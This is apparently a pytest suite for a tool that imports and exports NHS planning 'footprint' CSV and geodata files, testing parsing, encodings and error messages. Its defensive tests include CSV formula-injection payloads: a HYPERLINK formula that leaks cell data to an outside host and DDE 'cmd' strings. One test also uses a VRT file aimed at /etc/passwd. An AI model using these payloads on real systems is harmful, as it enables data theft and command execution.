"""Plan CSV files: codes stay text, every row problem is collected, unusable files are refused."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from helpers import grid_units, population_table

from footprint.errors import InputFileError, PlanError
from footprint.exporters import export_csv
from footprint.geography import build_geography
from footprint.plans import (
    PLAN_COLUMNS,
    PlanImport,
    clean_plan,
    read_plan_csv,
    write_plan_csv,
)

# ONS-style unit codes and their NHS codes (leading zeros that a number would lose)
KNOWN = ["E38000001", "E38000002", "E38000003", "E38000004"]
NHS = {"00C": "E38000001", "01A": "E38000002", "02N": "E38000003", "99M": "E38000004"}
ZEROS = ["00C", "00D", "01A", "099"]  # units coded like NHS CCGs, one all digits


def read(text: str | bytes, known=KNOWN, nhs=NHS) -> PlanImport:
    data = text.encode("utf-8") if isinstance(text, str) else text
    return read_plan_csv(data, known_codes=known, nhs_codes=nhs)


def test_a_clean_file():
    imp = read(
        "unit_code,footprint\nE38000001,North\nE38000002,North\nE38000003,South\nE38000004,South\n"
    )
    assert imp == PlanImport(
        assignment={
            "E38000001": "North",
            "E38000002": "North",
            "E38000003": "South",
            "E38000004": "South",
        },
        unknown_codes=(),
        missing=(),
        duplicates=(),
        problems=(),
        rows=4,
    )
    assert imp.clean


def test_leading_zeros_survive():
    imp = read("unit_code,footprint\n00C,A\n00D,A\n01A,B\n099,B\n", known=ZEROS, nhs=None)
    assert imp.assignment == {"00C": "A", "00D": "A", "01A": "B", "099": "B"}
    assert imp.missing == () and imp.unknown_codes == ()
    # a spreadsheet that dropped the zeros: '99' is not '099' and is reported, not guessed
    lost = read("unit_code,footprint\n99,B\n", known=ZEROS, nhs=None)
    assert lost.unknown_codes == ("99",) and lost.assignment == {}


def test_footprint_names_that_look_like_numbers_stay_text():
    imp = read("unit_code,footprint\nE38000001,007\nE38000002,1e3\nE38000003,NaN\n")
    assert imp.assignment == {"E38000001": "007", "E38000002": "1e3", "E38000003": "NaN"}


def test_nhs_codes_are_translated_and_may_mix_with_unit_codes():
    imp = read("unit_code,footprint\n00C,North\n01a,North\nE38000003,South\n99M,South\n")
    assert imp.assignment == {
        "E38000001": "North",
        "E38000002": "North",
        "E38000003": "South",
        "E38000004": "South",
    }
    assert imp.clean
    # an NHS code and its unit code for the same unit are one unit twice
    twice = read("unit_code,footprint\n00C,North\nE38000001,North\n")
    assert twice.duplicates == ("E38000001",) and twice.assignment == {"E38000001": "North"}


def test_bom_header_case_spaces_and_other_columns():
    data = (
        "\ufeff Unit Code ;FOOTPRINT;name\nE38000001; North ;NHS Somewhere\ne38000002;North;\n"
    ).encode("utf-8")
    imp = read(data)
    assert imp.assignment == {"E38000001": "North", "E38000002": "North"}
    assert imp.missing == ("E38000003", "E38000004")


def test_windows_1252_names():
    data = "unit_code,footprint\r\nE38000001,Côte – Nord\r\nE38000002,Côte – Nord\r\n".encode(
        "cp1252"
    )
    imp = read(data)
    assert imp.assignment == {"E38000001": "Côte – Nord", "E38000002": "Côte – Nord"}


def test_tabs_and_quoted_commas():
    imp = read('unit_code\tfootprint\nE38000001\t"North, East"\n')
    assert imp.assignment == {"E38000001": "North, East"}
    imp = read('unit_code,footprint\nE38000001,"North, East"\n')
    assert imp.assignment == {"E38000001": "North, East"}


def test_unknown_missing_duplicates_and_bad_rows_are_all_collected():
    text = (
        "unit_code,footprint\n"
        "E38000001,North\n"  # line 2
        "E38000001,North\n"  # 3: identical repeat, kept
        "E38000002,North\n"  # 4
        "E38000002,South\n"  # 5: conflicting repeat, left out
        "\n"  # 6: blank, ignored
        "XYZ,South\n"  # 7: unknown
        ",South\n"  # 8: no code
        "E38000003\n"  # 9: too few values
        "E38000003,South,x\n"  # 10: too many values
        "ABC,\n"  # 11: unknown (and unassigned)
    )
    imp = read(text)
    assert imp.assignment == {"E38000001": "North"}
    assert imp.unknown_codes == ("ABC", "XYZ")
    assert imp.missing == ("E38000003", "E38000004")
    assert imp.duplicates == ("E38000001", "E38000002")
    assert imp.rows == 9  # blank lines are not rows
    assert imp.problems == (
        "line 9 has too few values; expected 2 per line as in the header; it was skipped",
        "line 10 has more values than the header's 2; put names holding the separator ',' in "
        "double quotes; it was skipped",
        "line 8 has no unit code; it was skipped",
        "unit E38000002 is given different footprints ('North', 'South') on lines 4, 5; it was "
        "left out (unassigned); keep one line for it",
    )
    assert not imp.clean


def test_empty_footprint_means_unassigned_not_missing():
    imp = read("unit_code,footprint\nE38000001,\nE38000002,  \nE38000003,A\nE38000004,A\n")
    assert imp.assignment == {"E38000003": "A", "E38000004": "A"}
    assert imp.missing == () and imp.problems == ()
    conflict = read("unit_code,footprint\nE38000001,\nE38000001,A\n")
    assert conflict.assignment == {}
    assert conflict.problems[0].startswith(
        "unit E38000001 is given different footprints ((empty), 'A') on lines 2, 3;"
    )


def test_many_bad_lines_are_listed_briefly():
    imp = read("unit_code,footprint\n" + ",A\n" * 20)
    assert imp.problems == (
        "lines 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16 and 5 more have no unit code; "
        "they were skipped",
    )


def test_header_only_is_a_plan_with_no_rows():
    imp = read("unit_code,footprint\n")
    assert imp.assignment == {} and imp.rows == 0 and imp.missing == tuple(KNOWN)


# --- files that cannot be plans ------------------------------------------------------------------


def test_missing_columns_name_what_was_found():
    with pytest.raises(
        InputFileError,
        match=(
            r"the plan file: the header has the column\(s\) 'code', 'team'; expected "
            r"'unit_code' and 'footprint' \(missing: unit_code, footprint\)\. Put the header line "
            r"'unit_code,footprint' first"
        ),
    ):
        read("code,team\nE38000001,North\n")
    with pytest.raises(InputFileError, match=r"column\(s\) 'unit_code'; .*\(missing: footprint\)"):
        read("unit_code\nE38000001\n")


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (
            b"",
            "the plan file: the file is empty; expected a header line 'unit_code,footprint' "
            "and one line per unit",
        ),
        (b"\n\r\n  \n", "the plan file: the file is empty"),
        ("\ufeff".encode(), "the plan file: the file is empty"),
        (
            b"PK\x03\x04\x14\x00\x06\x00",
            r"not a CSV text file \(it looks like a zip archive or an "
            r"Excel workbook \(\.xlsx\)\)\. Save the plan as 'CSV "
            r"UTF-8 \(comma delimited\)'",
        ),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", r"it looks like an old Excel workbook \(\.xls\)"),
        (
            "unit_code,footprint\n".encode("utf-16"),
            r"not a CSV text file \(it holds binary data: "
            "a spreadsheet, or text saved as UTF-16\\)",
        ),
        (bytes(range(256)) * 4, r"not a CSV text file \(it holds binary data"),
        (b"\x81\x8d\x8f\x90\x9d" * 10, "its bytes are neither UTF-8 nor Windows-1252 text"),
        (
            b"\x01\x02\x03\x04\x05\x06unit_code,footprint",
            r"not a CSV text file \(it holds binary "
            r"data\)",
        ),
    ],
)
def test_unusable_files_are_refused(data: bytes, expected: str):
    with pytest.raises(InputFileError, match=expected):
        read(data)


def test_random_junk_is_refused():
    junk = os.urandom(5000)
    with pytest.raises(InputFileError, match="the plan file: not a CSV text file"):
        read(junk)


def test_paths_are_read_and_named_in_messages(tmp_path: Path):
    good = tmp_path / "plan.csv"
    good.write_text("unit_code,footprint\n00C,A\n", encoding="utf-8")
    assert read_plan_csv(good, known_codes=KNOWN, nhs_codes=NHS).assignment == {"E38000001": "A"}
    assert read_plan_csv(str(good), known_codes=KNOWN, nhs_codes=NHS).rows == 1
    bad = tmp_path / "teams.csv"
    bad.write_text("code,name\n", encoding="utf-8")
    with pytest.raises(InputFileError, match=r"^teams\.csv: the header has the column\(s\) 'code'"):
        read_plan_csv(bad, known_codes=KNOWN)
    with pytest.raises(InputFileError, match=r"nothere\.csv: no such file; check the path"):
        read_plan_csv(tmp_path / "nothere.csv", known_codes=KNOWN)
    with pytest.raises(InputFileError, match=r": is a folder; expected a CSV file"):
        read_plan_csv(tmp_path, known_codes=KNOWN)
    with pytest.raises(InputFileError, match="cannot read a plan from int; pass the file's path"):
        read_plan_csv(3, known_codes=KNOWN)  # type: ignore[arg-type]


# --- writing -------------------------------------------------------------------------------------


def test_write_sorted_or_in_the_given_order():
    plan = {"E38000002": "North", "E38000001": "South, West", "E38000004": None}
    assert write_plan_csv(plan) == (
        b'unit_code,footprint\nE38000001,"South, West"\nE38000002,North\nE38000004,\n'
    )
    assert write_plan_csv(plan, codes=reversed(KNOWN)) == (
        b'unit_code,footprint\nE38000004,\nE38000003,\nE38000002,North\nE38000001,"South, West"\n'
    )
    assert write_plan_csv({}) == b"unit_code,footprint\n"
    assert ",".join(PLAN_COLUMNS) == "unit_code,footprint"


def test_write_read_round_trip_keeps_text():
    plan = {"00C": " 007 ", "00D": 'Nörth "quoted"', "01A": "", "099": "a;b"}
    data = write_plan_csv(plan, codes=ZEROS)
    imp = read_plan_csv(data, known_codes=ZEROS)
    assert imp.assignment == {"00C": "007", "00D": 'Nörth "quoted"', "099": "a;b"}
    assert imp.missing == () and imp.problems == () and imp.rows == 4
    assert plan["00C"] == " 007 "  # the caller's mapping is untouched


def test_write_refuses_bad_plans():
    with pytest.raises(
        PlanError,
        match=(
            r"(?s)Cannot write the plan:.*unit 'a' -> 5: footprint names must be text"
            r".*unit code 3 is int; unit codes must be text"
        ),
    ):
        write_plan_csv({"a": 5, 3: "x"})  # type: ignore[dict-item]
    with pytest.raises(
        PlanError,
        match=(r"1 assigned code\(s\) are not among the codes to write: zz; pass every unit code"),
    ):
        write_plan_csv({"zz": "A"}, codes=["a"])
    with pytest.raises(PlanError, match="codes= repeats a; give each unit once"):
        write_plan_csv({}, codes=["a", "a"])
    with pytest.raises(PlanError, match="a plan must map unit codes to footprint names; received"):
        write_plan_csv([("a", "b")])  # type: ignore[arg-type]


def test_reads_the_exporters_csv():
    units = grid_units(2, 2)
    units["code"] = ZEROS
    geo = build_geography(
        units,
        population_table(ZEROS, [1, 2, 3, 4]),
        code_column="code",
        population_column="population",
        name="Zeros",
    )
    plan = {"00C": "N&S", "00D": "N&S", "01A": "East"}
    data = export_csv(geo, plan)
    imp = read_plan_csv(data, known_codes=geo.units["code"])
    assert imp.assignment == plan
    assert imp.missing == () and imp.rows == 4 and imp.problems == ()
    assert write_plan_csv(imp.assignment, codes=sorted(ZEROS)) == data


# --- names from a file are text, never formulas or control characters ---------------------------

FORMULAS = ["=A", "+B", "-C", "@D", "'E", "'=F"]
ATTACKS = [
    '=HYPERLINK("http://elsewhere/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+2",
]


def test_formula_names_are_written_neutralised():
    plan = dict(zip(KNOWN, ATTACKS[:4], strict=True))
    data = write_plan_csv(plan).decode("utf-8")
    cells = [line.split(",", 1)[1] for line in data.splitlines()[1:]]
    # the first character a spreadsheet sees is the quote that makes the cell text
    assert cells == [
        '"\'=HYPERLINK(""http://elsewhere/?leak=""&A1,""Click"")"',
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'-2+3",
    ]
    import csv
    import io

    for row in list(csv.reader(io.StringIO(data)))[1:]:
        assert not row[1].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_formula_names_round_trip_exactly():
    codes = [f"U{i}" for i in range(len(FORMULAS) + len(ATTACKS))]
    plan = dict(zip(codes, FORMULAS + ATTACKS, strict=True))
    data = write_plan_csv(plan, codes=codes)
    imp = read_plan_csv(data, known_codes=codes)
    assert imp.assignment == plan
    assert imp.clean
    # and through the exporters' plan CSV too
    units = grid_units(1, len(codes))
    units["code"] = codes
    geo = build_geography(
        units,
        population_table(codes, range(len(codes))),
        code_column="code",
        population_column="population",
    )
    assert read_plan_csv(export_csv(geo, plan), known_codes=codes).assignment == plan


def test_a_planners_own_quote_is_kept():
    imp = read("unit_code,footprint\nE38000001,'North\nE38000002,'\nE38000003,=A\n")
    # only the quote the app puts before a formula character is taken off; a bare formula
    # typed by hand stays as typed (it is only a name here)
    assert imp.assignment == {"E38000001": "'North", "E38000002": "'", "E38000003": "=A"}


def test_control_characters_leave_imported_names():
    imp = read('unit_code,footprint\nE38000001,"Nor\x00th\x1b"\nE38000002,"\u202eWest\t Side"\n')
    assert imp.assignment == {"E38000001": "North", "E38000002": "West Side"}
    assert read("unit_code,footprint\nE38000003,\x07\n").assignment == {}  # nothing left
    data = write_plan_csv({"E38000001": "A\x00B", "E38000002": "x\r\ny"})
    assert data == b"unit_code,footprint\nE38000001,AB\nE38000002,x y\n"


def test_an_unclosed_quote_is_reported_not_swallowed():
    text = (
        "unit_code,footprint\n"
        "E38000001,North\n"  # line 2: kept
        'E38000002,"North\n'  # 3: opens a quote that never closes
        "E38000003,South\n"
        "E38000004,South\n"
    )
    imp = read(text)
    assert imp.assignment == {"E38000001": "North"}
    assert imp.problems == (
        "line 3 opens a quote that is never closed; the rest of the file (lines 3 to 5) was read "
        'as one value and skipped. Remove the stray double quote (") or close it, then import the '
        "file again",
    )
    assert not imp.clean
    assert imp.missing == ("E38000002", "E38000003", "E38000004")


def test_a_quote_closed_lines_later_is_reported():
    text = (
        "unit_code,footprint\r\n"
        "\r\n"
        'E38000001,"North\r\n'  # line 3 opens, line 4 closes: two units read as one value
        'E38000002,North"\r\n'
        "E38000003,South\r\n"
        "E38000004,South\r\n"
    )
    imp = read(text)
    assert imp.assignment == {"E38000003": "South", "E38000004": "South"}
    assert imp.problems == (
        "line 3 opens a quote that is closed only on line 4; lines 3 to 4 were read as one value "
        'with line breaks and skipped. Remove the stray double quotes (") so that each unit is on '
        "a line of its own",
    )
    # the lines after it keep their own numbers in other messages
    later = read(text + ",x\n")
    assert "line 7 has no unit code; it was skipped" in later.problems


def test_an_unclosed_quote_in_the_header_is_refused():
    with pytest.raises(
        InputFileError,
        match=(
            r"the plan file: the header line \(line 1\) opens a double quote that is not closed on "
            r"that line, so the rest of the file was read as the header\. Remove the stray double "
            r"quote; the header should be 'unit_code,footprint'"
        ),
    ):
        read('unit_code,"footprint\nE38000001,North\nE38000002,South\n')


def test_clean_plan_keeps_assigned_units_with_clean_names():
    plan = {"A": " North ", "B": None, "C": "", "D": " \t", "E": "So\u200buth\nEast", "F": "\x00"}
    assert clean_plan(plan) == {"A": "North", "E": "South East"}
    assert plan["A"] == " North "  # the caller's plan is left alone


# --- plans from footprint boundaries ---------------------------------------------------------


@pytest.fixture(scope="module")
def grid_geo():
    """A 2 x 3 grid of 1 km squares, r0c0 ... r1c2, named with markup."""
    units = grid_units(2, 3)
    units["name"] = [f"<b>{c}</b>" for c in units["code"]]
    return build_geography(
        units,
        population_table(units["code"], [100] * 6),
        code_column="code",
        population_column="population",
        name_column="name",
        name="Grid",
        population_label="registered patients",
    )


GRID_PLAN = {"r0c0": "West", "r1c0": "West", "r0c1": "=East", "r0c2": "=East", "r1c2": "=East"}


@pytest.mark.parametrize("fmt", ["gpkg", "geojson"])
def test_the_apps_own_exports_read_back_exactly(grid_geo, fmt):
    from footprint.exporters import EXPORT_FORMATS
    from footprint.plans import read_plan_geodata

    data = EXPORT_FORMATS[fmt].function(grid_geo, GRID_PLAN, metadata={"scenario": "A"})
    imp = read_plan_geodata((f"plan.{fmt}", data), grid_geo)
    assert imp.assignment == GRID_PLAN
    assert imp.missing == ("r1c1",) and imp.ambiguous == () and imp.clean is False


def _features(tmp_path, shapes: dict[str, object], *, column="Name", crs=27700, name="fp.geojson"):
    import geopandas as gpd

    gdf = gpd.GeoDataFrame({column: list(shapes)}, geometry=list(shapes.values()), crs=crs)
    path = tmp_path / name
    gdf.to_file(path, engine="pyogrio")
    return (name, path.read_bytes())


def test_other_files_are_read_by_area_with_unclear_shares_in_words(grid_geo, tmp_path):
    from shapely.geometry import box

    from footprint.plans import read_plan_geodata

    # West covers column 0 and 70% of r0c1; East the rest of row 0; row 1 beyond c0 uncovered
    shapes = {"West": box(0, 0, 1700, 2000).difference(box(1000, 0, 2000, 1000)),
              "East": box(1700, 1000, 3000, 2000), "  ": box(0, 0, 10, 10)}  # fmt: skip
    imp = read_plan_geodata(_features(tmp_path, shapes, crs=27700), grid_geo)
    assert imp.assignment == {"r0c0": "West", "r1c0": "West", "r1c1": "West", "r1c2": "East"}
    # r1c1 is 70% West, 30% East: put in West and said so; row 0 beyond c0 is uncovered
    assert imp.ambiguous == ("<b>r1c1</b> (r1c1): 70% in West, 30% in East; put in West",)
    assert imp.missing == ("r0c1", "r0c2")
    assert imp.problems == ("1 feature(s) have a blank 'Name' and were left out",)


def test_a_footprint_file_in_degrees_is_projected(grid_geo, tmp_path):
    from footprint.plans import read_plan_geodata

    fps = grid_geo.units.dissolve(by=grid_geo.units["code"].str[1]).to_crs(4326)
    named = fps.assign(footprint=["Row 0", "Row 1"])[["footprint", "geometry"]]
    path = tmp_path / "rows.geojson"
    named.to_file(path, engine="pyogrio")
    imp = read_plan_geodata(("rows.geojson", path.read_bytes()), grid_geo)
    assert imp.assignment == {c: f"Row {c[1]}" for c in grid_geo.units["code"]}


def test_unusable_footprint_files_are_refused_in_words(grid_geo, tmp_path):
    from shapely.geometry import box

    from footprint.plans import read_plan_geodata

    with pytest.raises(InputFileError, match=r"none of the columns footprint, name, .*'zone'"):
        read_plan_geodata(_features(tmp_path, {"A": box(0, 0, 1, 1)}, column="zone"), grid_geo)
    with pytest.raises(InputFileError, match="has no column 'fp'"):
        read_plan_geodata(_features(tmp_path, {"A": box(0, 0, 1, 1)}), grid_geo, name_column="fp")
    with pytest.raises(InputFileError, match="every feature's 'Name' is blank"):
        read_plan_geodata(_features(tmp_path, {"": box(0, 0, 1, 1)}), grid_geo)
    with pytest.raises(InputFileError, match=r"plan\.csv: a plan from boundaries must be a "):
        read_plan_geodata(("plan.csv", b"unit_code,footprint\n"), grid_geo)
    with pytest.raises(InputFileError, match=r"more than the 0\.0 MB allowed"):
        read_plan_geodata(_features(tmp_path, {"A": box(0, 0, 1, 1)}), grid_geo, max_bytes=10)


def test_hostile_footprint_files_are_never_opened_by_another_driver(grid_geo, tmp_path):
    from footprint.plans import read_plan_geodata

    vrt = b'<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>CSV:/etc/passwd'
    vrt += b"</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"
    with pytest.raises(InputFileError, match=r"fp\.geojson: .*GeoJSON"):
        read_plan_geodata(("fp.geojson", vrt), grid_geo)
    with pytest.raises(InputFileError, match=r"fp\.gpkg: .*GeoPackage"):
        read_plan_geodata(("fp.gpkg", b"unit_code,footprint\nr0c0,A\n"), grid_geo)
    with pytest.raises(InputFileError, match="not a usable file name"):
        read_plan_geodata(("../..", b"{}"), grid_geo)


@pytest.mark.realdata
def test_real_footprints_from_another_tool_read_back_by_area(dataset, tmp_path):
    import geopandas as gpd

    from footprint.exporters import export_geojson
    from footprint.plans import read_plan_geodata

    g = dataset.geography
    plan = {c: g.name_of(b) for c, b in dataset.audit.blocks.items()}
    path = tmp_path / "own.geojson"
    path.write_bytes(export_geojson(g, plan))
    # as another tool would save them: names only, no list of units, in a GeoPackage
    other = gpd.read_file(path)[["footprint", "geometry"]].rename(columns={"footprint": "NAME"})
    other.to_file(tmp_path / "other.gpkg", engine="pyogrio", layer="zones")
    imp = read_plan_geodata(("other.gpkg", (tmp_path / "other.gpkg").read_bytes()), g)
    assert imp.assignment == plan and imp.missing == ()


@pytest.mark.browser
@pytest.mark.realdata
@pytest.mark.slow
def test_the_apps_geopackage_loads_back_into_the_drawing_in_a_browser(dataset, tmp_path):
    """Upload the app's own GeoPackage of the Area Teams on the Import and export page and
    load it: all 211 CCGs come back in their 25 footprints."""
    import os
    import shutil

    from appserver import CHROMIUM, CHROMIUM_ARGS, AppDidNotStart, serve_app

    from footprint.exporters import export_geopackage

    if shutil.which(CHROMIUM) is None:
        if os.environ.get("FOOTPRINT_REQUIRE_BROWSER", "").strip() not in ("", "0"):
            pytest.fail(f"Chromium not found at {CHROMIUM}; FOOTPRINT_REQUIRE_BROWSER is set")
        pytest.skip(f"Chromium not found at {CHROMIUM}")
    from playwright.sync_api import sync_playwright

    g = dataset.geography
    names = g.group_names("area_team_code")
    plan = {c: names[t] for c, t in zip(g.units["code"], g.units["area_team_code"], strict=True)}
    gpkg = tmp_path / "Area teams.gpkg"
    gpkg.write_bytes(export_geopackage(g, plan, metadata={"scenario": "Area Teams"}))
    try:
        with (
            serve_app(scenario_dir=tmp_path / "scenarios", log_path=tmp_path / "app.log") as url,
            sync_playwright() as p,
        ):
            browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
            page = browser.new_page(viewport={"width": 1440, "height": 1000})
            page.goto(url)
            page.get_by_text("Import and export", exact=True).first.click()
            box = page.locator('[data-testid="stFileUploader"]').filter(
                has_text="A GeoPackage or GeoJSON of footprints"
            )
            box.locator('input[type="file"]').set_input_files(str(gpkg))
            page.get_by_text("211 valid row(s) in 25 footprints").first.wait_for(timeout=60_000)
            page.get_by_text("Load these 211 rows, replacing my drawing").first.click()
            page.wait_for_timeout(1000)
            shots = os.environ.get("FOOTPRINT_SCREENSHOTS")
            if shots:
                page.screenshot(path=str(Path(shots) / "16-import-footprint-boundaries.png"))
            page.get_by_role("button", name="Load the imported plan").click()
            page.get_by_text(
                "Loaded the plan from Area teams.gpkg into the drawing"
            ).first.wait_for(timeout=30_000)
            page.get_by_text("Map and drawing", exact=True).first.click()
            page.get_by_text("25 footprints").first.wait_for(timeout=60_000)
            browser.close()
    except AppDidNotStart as exc:
        pytest.fail(str(exc))
